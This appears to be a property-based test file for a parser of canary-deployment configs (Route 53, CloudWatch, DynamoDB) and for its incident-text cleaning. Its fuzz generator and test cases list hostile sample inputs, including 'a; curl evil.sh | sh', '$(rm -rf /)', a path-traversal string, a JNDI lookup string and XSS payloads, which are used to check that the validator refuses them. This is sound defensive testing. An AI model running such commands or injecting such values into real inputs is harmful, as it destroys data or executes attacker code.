/**
 * Bad input, by property: whatever JSON arrives as the execution input, `parseRolloutConfig`
 * either returns a config that holds the invariants the steps rely on, or throws
 * ConfigValidationError naming a field path per issue; and a refused config moves nothing
 * (preflight makes no Route 53, DynamoDB or CloudWatch call). Text that reaches an incident
 * carries no control characters.
 */
import { CloudWatchClient } from '@aws-sdk/client-cloudwatch';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { Route53Client } from '@aws-sdk/client-route-53';
import { DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import { mockClient } from 'aws-sdk-client-mock';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { CloudWatchMetrics } from '../../functions/adapters/cloudwatch-metrics.ts';
import { DynamoRollouts } from '../../functions/adapters/dynamodb-store.ts';
import { Route53Traffic } from '../../functions/adapters/route53-traffic.ts';
import { isMetricStatQuery, parseRolloutConfig, route53TargetOf, type RolloutConfig, type RolloutConfigInput } from '../../functions/core/config.ts';
import { defaultJudge } from '../../functions/core/default-judge.ts';
import { ConfigValidationError } from '../../functions/core/errors.ts';
import { buildIncident, cleanText } from '../../functions/core/incident.ts';
import type { Deps, IncidentPort } from '../../functions/core/ports.ts';
import type { Decision } from '../../functions/core/rollout-record.ts';
import { preflight } from '../../functions/core/rollout-steps.ts';
import { albEcsConfig, ZONE } from '../fixtures/configs.ts';

const ALLOWED = [ZONE, 'ZOTHERZONE0000000001'];
const RUNS = Number(process.env.PROPERTY_RUNS ?? 300);

const SAFE_NAME = /^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/;
const CONTROL = /\p{Cc}/u;
/** `(config)`, or a path: `target.hostedZoneId`, `stages[3]`, `metrics[0].queries.canary.value.dimensions["odd key"]`. */
const ISSUE = /^(\(config\)|([A-Za-z_$][\w$-]*|\["(?:[^"\\]|\\.)*"\])(\.[A-Za-z_$][\w$-]*|\[\d+\]|\["(?:[^"\\]|\\.)*"\])*): \S/u;

/** What every step relies on in a config that was accepted. */
function expectInvariants(config: RolloutConfig): void {
  const weights = config.stages.map((s) => s.weight);
  expect(weights.length).toBeGreaterThan(0);
  weights.forEach((w, i) => {
    expect(Number.isInteger(w) && w >= 1 && w <= 100).toBe(true);
    if (i > 0) expect(w).toBeGreaterThan(weights[i - 1]!);
  });
  expect(weights.at(-1)).toBe(100);
  for (const s of config.stages) {
    expect(Number.isInteger(s.bakeSeconds) && s.bakeSeconds >= 0).toBe(true);
    expect(Number.isInteger(s.checks) && s.checks >= 1).toBe(true);
  }
  expect(config.name).toMatch(SAFE_NAME);
  const target = route53TargetOf(config);
  expect(ALLOWED).toContain(target.hostedZoneId);
  expect(target.recordName).toMatch(/^(\*\.)?[a-z0-9_.-]+$/);
  expect(target.recordName.length).toBeLessThanOrEqual(253);
  for (const id of [target.baselineSetIdentifier, target.canarySetIdentifier]) {
    expect(id.length).toBeGreaterThan(0);
    expect(id).not.toMatch(CONTROL);
  }
  expect(target.baselineSetIdentifier).not.toBe(target.canarySetIdentifier);
  expect(config.metrics.length).toBeGreaterThan(0);
  expect(new Set(config.metrics.map((m) => m.name)).size).toBe(config.metrics.length);
  for (const m of config.metrics) {
    expect(m.name).toMatch(SAFE_NAME);
    for (const variant of ['canary', 'baseline'] as const) {
      const q = m.queries[variant];
      expect('numerator' in q).toBe(m.kind === 'ratio');
      const queries = 'numerator' in q ? [q.numerator, q.denominator] : [q.value];
      for (const query of queries) {
        // The arbitraries make single-metric queries only.
        expect(isMetricStatQuery(query)).toBe(true);
        if (!isMetricStatQuery(query)) continue;
        for (const text of [query.namespace, query.metricName, ...Object.entries(query.dimensions).flat()]) {
          expect(text.length).toBeGreaterThan(0);
          expect(text).not.toMatch(CONTROL);
        }
      }
    }
  }
}

/** Either a config holding the invariants, or ConfigValidationError naming a field per issue. */
function checkParse(input: unknown): 'accepted' | 'refused' {
  let config: RolloutConfig;
  try {
    config = parseRolloutConfig(input, { allowedHostedZoneIds: ALLOWED });
  } catch (error) {
    expect(error).toBeInstanceOf(ConfigValidationError);
    const issues = (error as ConfigValidationError).issues;
    expect(issues.length).toBeGreaterThan(0);
    for (const issue of issues) {
      expect(issue).toMatch(ISSUE);
      // One printable line each: they end up in the execution's cause and on a terminal.
      expect(issue).not.toMatch(CONTROL);
      expect(issue).not.toMatch(/[\u2028\u2029]/);
    }
    return 'refused';
  }
  expectInvariants(config);
  return 'accepted';
}

// A valid config written out in full (explicit metrics beside the preset), the seed of the mutations.
const VALID: RolloutConfigInput = albEcsConfig({
  stages: [1, { weight: 10, bakeSeconds: 60, checks: 2 }, 50, 100],
  metrics: [{
    name: 'latency-p99', kind: 'gauge', unit: 'seconds', threshold: { max: 1 }, baseline: { maxIncreasePercent: 20 },
    queries: {
      canary: { value: { namespace: 'AWS/ApplicationELB', metricName: 'TargetResponseTime', dimensions: { TargetGroup: 'tg/green' }, stat: 'Maximum' } },
      baseline: { value: { namespace: 'AWS/ApplicationELB', metricName: 'TargetResponseTime', dimensions: { TargetGroup: 'tg/blue' }, stat: 'Maximum' } },
    },
  }, {
    name: 'errors', kind: 'ratio', unit: 'percent', critical: true, threshold: { max: 1 },
    queries: {
      canary: {
        numerator: { namespace: 'AWS/ApplicationELB', metricName: 'HTTPCode_Target_5XX_Count', dimensions: { TargetGroup: 'tg/green' }, stat: 'Sum' },
        denominator: { namespace: 'AWS/ApplicationELB', metricName: 'RequestCount', dimensions: { TargetGroup: 'tg/green' }, stat: 'Sum' },
      },
      baseline: {
        numerator: { namespace: 'AWS/ApplicationELB', metricName: 'HTTPCode_Target_5XX_Count', dimensions: { TargetGroup: 'tg/blue' }, stat: 'Sum' },
        denominator: { namespace: 'AWS/ApplicationELB', metricName: 'RequestCount', dimensions: { TargetGroup: 'tg/blue' }, stat: 'Sum' },
      },
    },
  }],
});

type Path = (string | number)[];

/** Every path into the valid config (objects and arrays included), for the mutations to aim at. */
function pathsOf(value: unknown, prefix: Path = []): Path[] {
  if (value === null || typeof value !== 'object') return [prefix];
  const children = Array.isArray(value)
    ? value.flatMap((v, i) => pathsOf(v, [...prefix, i]))
    : Object.entries(value).flatMap(([k, v]) => pathsOf(v, [...prefix, k]));
  return prefix.length ? [prefix, ...children] : children;
}
const PATHS = pathsOf(VALID);
const STRING_PATHS = PATHS.filter((p) => typeof getAt(VALID, p) === 'string');

function getAt(value: unknown, path: Path): unknown {
  return path.reduce<unknown>((v, k) => (v as Record<string | number, unknown> | undefined)?.[k], value);
}

/** A deep copy with `path` set to `to`, or removed when `to` is `REMOVE`. */
const REMOVE = Symbol('remove');
function mutate(path: Path, to: unknown): unknown {
  const copy = structuredClone(VALID) as unknown;
  const parent = getAt(copy, path.slice(0, -1)) as Record<string | number, unknown>;
  const key = path.at(-1)!;
  if (to === REMOVE) {
    if (Array.isArray(parent)) parent.splice(key as number, 1);
    else delete parent[key];
  } else {
    parent[key] = to;
  }
  return copy;
}

/** Text an attacker or a typo would send: control characters, newlines, HTML, shell metacharacters, long. */
const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    'api\nexample', 'name\r\nX-Injected: 1', 'tab\there', 'nul\u0000byte', 'bell\u0007', 'csi\u009b31m', 'del\u007f',
    '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '$(rm -rf /)', '`id`', 'a; curl evil.sh | sh',
    '../../etc/passwd', '${jndi:ldap://x}', '%0d%0a', ' leading-space', 'trailing-space ', '', 'é-ünïcode', '\u202eevil',
  ),
  fc.string({ minLength: 64, maxLength: 70 }),
  fc.nat({ max: 3000 }).map((n) => 'x'.repeat(n + 254)),
);

const mutation: fc.Arbitrary<unknown> = fc.oneof(
  // Wrong types, anywhere.
  fc.tuple(fc.constantFrom(...PATHS), fc.jsonValue({ maxDepth: 2 })).map(([p, v]) => mutate(p, v)),
  // Missing fields.
  fc.constantFrom(...PATHS).map((p) => mutate(p, REMOVE)),
  // Hostile strings in every string field.
  fc.tuple(fc.constantFrom(...STRING_PATHS), hostileText).map(([p, v]) => mutate(p, v)),
  // Stage lists: weights out of range, not integers, not rising, not ending at 100.
  fc.array(fc.oneof(fc.integer({ min: -5, max: 300 }), fc.double({ min: -1, max: 101, noNaN: true }), fc.constant(100)), { maxLength: 25 })
    .map((stages) => mutate(['stages'], stages)),
  // Route 53 weights are not config, but the stage objects are: bad fields in them.
  fc.record({ weight: fc.jsonValue({ maxDepth: 0 }), bakeSeconds: fc.jsonValue({ maxDepth: 0 }) }).map((s) => mutate(['stages', 1], s)),
  // Hosted zones outside the stack's list, and record names that are not DNS names.
  fc.oneof(fc.constantFrom('ZNOTALLOWED00000001', '/hostedzone/ZNOTALLOWED0000002', 'z0123456789abcdefghij', ' Z0123'), hostileText)
    .map((zone) => mutate(['target', 'hostedZoneId'], zone)),
  fc.oneof(hostileText, fc.domain(), fc.constantFrom('*.example.com', 'api.example.com.', 'a..b', '-a.com', 'a'.repeat(64) + '.com'))
    .map((name) => mutate(['target', 'recordName'], name)),
  // Two metrics under one (possibly hostile) name.
  hostileText.map((name) => {
    const copy = structuredClone(VALID) as { metrics: { name: string }[] };
    copy.metrics[0]!.name = name;
    copy.metrics[1]!.name = name;
    return copy;
  }),
  // Unknown keys at any object.
  fc.tuple(fc.constantFrom(...PATHS.filter((p) => { const v = getAt(VALID, p); return v !== null && typeof v === 'object' && !Array.isArray(v); })), fc.string({ unit: 'binary', maxLength: 12 }), fc.jsonValue({ maxDepth: 1 }))
    .map(([p, k, v]) => mutate([...p, k], v)),
);

describe('parseRolloutConfig on arbitrary input', () => {
  it('accepts the seed config', () => {
    expect(checkParse(VALID)).toBe('accepted');
  });

  it('any JSON value: a valid config or ConfigValidationError naming field paths, never another error', () => {
    fc.assert(fc.property(fc.jsonValue(), (input) => { checkParse(input); }), { numRuns: RUNS });
  });

  it('any object with the top-level keys present: same', () => {
    const keys = Object.keys(VALID);
    const shaped = fc.record(Object.fromEntries(keys.map((k) => [k, fc.jsonValue({ maxDepth: 3 })])), { requiredKeys: [] });
    fc.assert(fc.property(shaped, (input) => { checkParse(input); }), { numRuns: RUNS });
  });

  it('mutated valid configs: same, and most mutations are refused', () => {
    const outcomes = { accepted: 0, refused: 0 };
    fc.assert(fc.property(mutation, (input) => { outcomes[checkParse(input)]++; }), { numRuns: RUNS * 3 });
    // Sanity: the generator both keeps some valid configs valid and breaks most.
    expect(outcomes.refused).toBeGreaterThan(outcomes.accepted);
    expect(outcomes.accepted).toBeGreaterThan(0);
  });

  it('names the field in the message, for a few typical mistakes', () => {
    const cases: [unknown, RegExp][] = [
      [mutate(['stages'], [10, 50]), /^stages\[1\]: the last stage must be 100/],
      [mutate(['stages'], [10, 5, 100]), /^stages\[1\]: stages must rise strictly/],
      [mutate(['stages'], [0, 100]), /^stages\[0\]/],
      [mutate(['name'], 'api\nX-Evil: 1'), /^name: name must be 1-64 characters/],
      [mutate(['target', 'hostedZoneId'], 'ZNOTALLOWED00000001'), /^target\.hostedZoneId: ZNOTALLOWED00000001 is not one of the hosted zones/],
      [mutate(['target', 'recordName'], 'api.example.com; rm -rf /'), /^target\.recordName: recordName must be a DNS name/],
      [mutate(['metrics', 0, 'queries', 'canary', 'value', 'namespace'], 'AWS/\u0007'), /^metrics\[0\]\.queries\.canary/],
    ];
    for (const [input, message] of cases) {
      expect(() => parseRolloutConfig(input, { allowedHostedZoneIds: ALLOWED })).toThrow(ConfigValidationError);
      try {
        parseRolloutConfig(input, { allowedHostedZoneIds: ALLOWED });
      } catch (error) {
        expect((error as ConfigValidationError).issues.some((i) => message.test(i)), `${(error as ConfigValidationError).issues.join(' | ')} ~ ${message}`).toBe(true);
      }
    }
  });
});

describe('preflight on a refused config', () => {
  const route53 = mockClient(Route53Client);
  const dynamo = mockClient(DynamoDBDocumentClient);
  const cloudwatch = mockClient(CloudWatchClient);
  afterEach(() => {
    route53.reset();
    dynamo.reset();
    cloudwatch.reset();
  });

  function deps(): { deps: Deps; incidents: unknown[] } {
    const doc = DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'us-east-1' }));
    const incidents: unknown[] = [];
    const incidentPort: IncidentPort = {
      open: async (incident) => { incidents.push(incident); return []; },
      update: async (incident) => { incidents.push(incident); return []; },
    };
    const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };
    return {
      incidents,
      deps: {
        traffic: new Route53Traffic(new Route53Client({ region: 'us-east-1' })),
        metrics: new CloudWatchMetrics(new CloudWatchClient({ region: 'us-east-1' })),
        rollouts: new DynamoRollouts(doc, 'rollouts'), // the records and the traffic-target locks
        incidents: incidentPort,
        judge: defaultJudge,
        clock: { now: () => new Date('2026-01-01T00:00:00Z') },
        log: silent,
        allowedHostedZoneIds: ALLOWED,
      },
    };
  }

  it('makes no AWS call at all (Route 53, DynamoDB, CloudWatch) and opens no incident', async () => {
    let refused = 0;
    await fc.assert(fc.asyncProperty(mutation, async (config) => {
      let accepted = true;
      try {
        parseRolloutConfig(config, { allowedHostedZoneIds: ALLOWED });
      } catch {
        accepted = false;
      }
      fc.pre(!accepted);
      refused++;
      const { deps: d, incidents } = deps();
      await expect(preflight({ config, execution: { name: 'refused-1' } }, d)).rejects.toBeInstanceOf(ConfigValidationError);
      expect(route53.calls()).toHaveLength(0);
      expect(dynamo.calls()).toHaveLength(0);
      expect(cloudwatch.calls()).toHaveLength(0);
      expect(incidents).toHaveLength(0);
    }), { numRuns: 100 });
    expect(refused).toBeGreaterThan(50);
  });
});

describe('incident text', () => {
  const decision = (reasons: string[]): Decision => ({
    outcome: 'ROLLED_BACK', at: '2026-01-01T00:00:00.000Z', stageIndex: 1, weight: 10, failing: [], reasons,
  });
  // Line feed is the one control character a summary may hold (it is multi-line by design).
  const CONTROL_BUT_LF = /[^\P{Cc}\n]/u;

  it('the title and summary carry no control characters, whatever the reasons say', () => {
    fc.assert(fc.property(
      fc.array(fc.string({ unit: 'binary', maxLength: 200 }), { maxLength: 5 }),
      fc.string({ unit: 'binary', maxLength: 80 }),
      fc.string({ unit: 'binary', maxLength: 80 }),
      (reasons, service, rolloutId) => {
        const incident = buildIncident({ rolloutId, service, target: `${ZONE}/api.example.com/A`, decision: decision(reasons) });
        expect(incident.title).not.toMatch(CONTROL);
        expect(incident.summary).not.toMatch(CONTROL_BUT_LF);
        expect(incident.title.length).toBeLessThanOrEqual(200);
        expect(incident.summary.length).toBeLessThanOrEqual(8000);
      },
    ), { numRuns: RUNS });
  });

  it('cleanText drops C0 (but line feed), DEL and C1 controls, and bounds the length', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 300 }), fc.integer({ min: 2, max: 400 }), (text, max) => {
      const cleaned = cleanText(text, max);
      expect(cleaned).not.toMatch(CONTROL_BUT_LF);
      expect(cleaned.length).toBeLessThanOrEqual(max);
    }), { numRuns: RUNS });
    expect(cleanText('a\u0007b\u009b31mc\u007fd\r\ne\tf')).toBe('ab31mcd\ne f');
  });
});
